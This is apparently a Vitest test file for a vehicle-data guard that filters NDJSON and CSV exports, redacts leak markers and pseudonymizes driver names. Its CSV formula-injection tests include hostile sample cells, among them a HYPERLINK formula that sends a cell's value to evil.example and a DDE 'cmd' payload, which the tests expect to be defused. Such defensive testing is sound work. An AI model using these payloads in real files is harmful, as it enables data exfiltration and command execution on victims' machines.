import { describe, expect, it } from "vitest";
import { guardPayload, openGuardStream } from "../../../policies/guard/index.ts";
import { expectedPseudonym, plan } from "./plans.ts";

const ok = (r: ReturnType<typeof guardPayload>) => {
  if (!r.ok) throw new Error(`expected ok, got ${JSON.stringify(r)}`);
  return r;
};

describe("NDJSON", () => {
  it("cuts every non-blank line as a record and ends every output line with \\n", () => {
    const text = '{"vin":"A","x":1}\r\n\r\n   \n{"engine":{"calibration":"c"}}\n{"vin":"B"}';
    expect(ok(guardPayload(plan(), text, "ndjson"))).toEqual({
      ok: true,
      body: '{"vin":"A"}\n{}\n{"vin":"B"}\n',
      records: 3,
    });
  });

  it("drops lines that are not objects, without counting them", () => {
    const r = ok(
      guardPayload(plan(), '5\n"CAL-123456"\n[{"vin":"A"}]\nnull\n{"vin":"B"}\n', "ndjson"),
    );
    expect(r).toEqual({ ok: true, body: '{"vin":"B"}\n', records: 1 });
  });

  it("answers an empty body for an empty stream", () => {
    expect(ok(guardPayload(plan(), "", "ndjson"))).toEqual({ ok: true, body: "", records: 0 });
  });

  it("ignores recordsAt: each line is a record", () => {
    expect(ok(guardPayload(plan({ recordsAt: "a.b" }), '{"vin":"A"}\n', "ndjson")).body).toBe(
      '{"vin":"A"}\n',
    );
  });

  it("blocks on a marker in any released line, redacts under redact", () => {
    const text = '{"vin":"A"}\n{"vin":"CAL-000001"}\n';
    expect(guardPayload(plan(), text, "ndjson")).toEqual({
      ok: false,
      reason: "leak",
      rule: "core_marker",
      marker: 0,
      path: "vin",
    });
    expect(ok(guardPayload(plan({ onMarker: "redact" }), text, "ndjson")).body).toBe(
      '{"vin":"A"}\n{"vin":"[REDACTED]"}\n',
    );
  });

  it("pseudonymizes as in JSON", async () => {
    const r = ok(guardPayload(plan(), '{"driver":{"name":"Alice","licence":"L"}}\n', "ndjson"));
    expect(r.body).toBe(`{"driver":{"name":"${await expectedPseudonym("Alice")}"}}\n`);
  });
});

describe("CSV", () => {
  it("keeps the released columns in input order, with CRLF line ends", () => {
    const text = "engine.calibration,mileage,unknown,vin\r\nc1,10,u,A\r\nc2,20,u,B\r\n";
    expect(ok(guardPayload(plan(), text, "csv"))).toEqual({
      ok: true,
      body: "mileage,vin\r\n10,A\r\n20,B\r\n",
      records: 2,
    });
  });

  it("reads quoted cells (commas, quotes, line breaks) and LF-only line ends, and quotes on output when needed", () => {
    const text = 'vin,mileage\n"A,1","say ""hi"""\n"multi\r\nline",2';
    expect(ok(guardPayload(plan(), text, "csv")).body).toBe(
      'vin,mileage\r\n"A,1","say ""hi"""\r\n"multi\r\nline",2\r\n',
    );
  });

  it("accepts a quoted header and empty cells", () => {
    expect(ok(guardPayload(plan(), '"vin","mileage"\r\n,\r\n"",3\r\n', "csv")).body).toBe(
      "vin,mileage\r\n,\r\n,3\r\n",
    );
  });

  it("answers the header alone for no rows, and nothing when no column may leave", () => {
    expect(ok(guardPayload(plan(), "vin,secret\r\n", "csv"))).toEqual({
      ok: true,
      body: "vin\r\n",
      records: 0,
    });
    expect(ok(guardPayload(plan(), "secret,engine.calibration\r\n1,2\r\n", "csv"))).toEqual({
      ok: true,
      body: "",
      records: 0,
    });
  });

  it("pseudonymizes personal cells as the JSON string they are", async () => {
    const r = ok(guardPayload(plan(), "driver.name,vin\r\nAlice,A\r\n", "csv"));
    expect(r.body).toBe(`driver.name,vin\r\n${await expectedPseudonym("Alice")},A\r\n`);
  });

  it("blocks on a marker in a released cell, redacts under redact, ignores cut columns", () => {
    const text = "vin,engine.calibration\r\nCAL-123456,CAL-654321\r\n";
    expect(guardPayload(plan(), text, "csv")).toMatchObject({
      reason: "leak",
      marker: 0,
      path: "vin",
    });
    expect(ok(guardPayload(plan({ onMarker: "redact" }), text, "csv")).body).toBe(
      "vin\r\n[REDACTED]\r\n",
    );
    expect(ok(guardPayload(plan(), "vin,engine.calibration\r\nA,CAL-654321\r\n", "csv")).body).toBe(
      "vin\r\nA\r\n",
    );
  });

  it("checks released header names that are data, not field names", () => {
    const p = plan({ classes: { speed: "shared" }, granted: ["speed"], pseudonymize: [] });
    const text = "speed.avg,speed.CAL-123456\r\n1,2\r\n";
    expect(guardPayload(p, text, "csv")).toMatchObject({ reason: "leak", path: "speed.*" });
    const redact = plan({
      classes: { speed: "shared" },
      granted: ["speed"],
      pseudonymize: [],
      onMarker: "redact",
    });
    expect(ok(guardPayload(redact, text, "csv")).body).toBe("speed.avg\r\n1\r\n");
  });
});

describe("CSV formula injection", () => {
  it("prefixes with ' a released cell that starts with = + - @ and is not a number", () => {
    const cells = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "@SUM(A1:A9)",
      "+cmd|' /C calc'!A0",
      "-2+3",
      "-",
      "=",
      "-Infinity",
      "+-1",
    ];
    const text = `vin\r\n${cells.map((c) => `"${c.replaceAll('"', '""')}"`).join("\r\n")}\r\n`;
    const r = ok(guardPayload(plan(), text, "csv"));
    expect(r.body).toBe(
      `vin\r\n${cells
        .map((c) => `'${c}`)
        .map((c) => (/[",]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c))
        .join("\r\n")}\r\n`,
    );
    expect(r.records).toBe(cells.length);
  });

  it("leaves numbers and other cells as they are", () => {
    const numbers = ["-12", "+3", "-12.5", "-.5", "+1e5", "-2E-3", "0", "a=b", " =1", "'=x"];
    const text = `vin\r\n${numbers.join("\r\n")}\r\n`;
    expect(ok(guardPayload(plan(), text, "csv")).body).toBe(text);
  });

  it("defuses header cells too, and checks markers on the cell as sent", () => {
    const p = plan({
      classes: { "-x": "shared", vin: "shared" },
      granted: ["-x", "vin"],
      pseudonymize: [],
    });
    expect(ok(guardPayload(p, "-x,vin\r\n@a,=b\r\n", "csv")).body).toBe("'-x,vin\r\n'@a,'=b\r\n");
    expect(guardPayload(plan(), "vin\r\n=CAL-123456\r\n", "csv")).toMatchObject({
      reason: "leak",
    });
  });

  it("the same in a stream, with the cell split across chunks", () => {
    const s = openGuardStream(plan(), "csv");
    expect(s.write("vin\r\n=1")).toEqual({ ok: true, text: "vin\r\n" });
    expect(s.write("+1\r\n")).toEqual({ ok: true, text: "'=1+1\r\n" });
    expect(s.end()).toEqual({ ok: true, text: "", records: 1 });
  });
});

describe("CSV blank lines", () => {
  it("reads a blank line inside the body as a record of one empty field", () => {
    expect(ok(guardPayload(plan(), "vin\r\nA\r\n\r\nB\r\n", "csv"))).toEqual({
      ok: true,
      body: 'vin\r\nA\r\n""\r\nB\r\n',
      records: 3,
    });
    expect(guardPayload(plan(), "vin,mileage\r\nA,1\r\n\r\nB,2\r\n", "csv")).toMatchObject({
      detail: "parse_error",
    });
  });

  it("ignores blank lines that close the body", () => {
    expect(ok(guardPayload(plan(), "vin,mileage\r\nA,1\r\n\r\n\n", "csv")).records).toBe(1);
  });
});
